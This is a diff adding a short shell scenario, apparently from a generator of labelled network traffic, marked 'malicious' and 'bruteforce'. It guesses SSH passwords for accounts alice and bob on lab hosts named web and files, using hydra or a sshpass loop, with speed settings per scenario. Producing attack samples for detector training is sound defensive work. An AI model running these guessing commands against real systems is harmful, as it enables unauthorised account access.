@@ -1,0 +1,19 @@
+# label: malicious
+# class: bruteforce
+# twin: ssh_forgetful ssh_batch
+# tools: hydra sshpass openssh-client openssh-server
+# about: Passwords of an account are guessed, by hydra or with the ordinary client.
+# command: hydra ssh:// or sshpass ssh
+# params: fast net=lan TOOL=hydra TRIES=20 OPTS="-t 5"
+# params: slow net=wan TOOL=hydra TRIES=9 OPTS="-t 1 -c 1" limit=25
+# params: client net=office TOOL=ssh TRIES=7 limit=25
+words "$TRIES" >list
+if [ "$TOOL" = hydra ]; then
+	hydra -I -l alice -P list $OPTS ssh://web
+else
+	while read -r guess; do
+		sshpass -p "$guess" ssh $SSH -o NumberOfPasswordPrompts=1 "$(pick alice bob)@$(pick web files)" true </dev/null
+		pause 0.1 0.6
+	done <list
+fi
+true
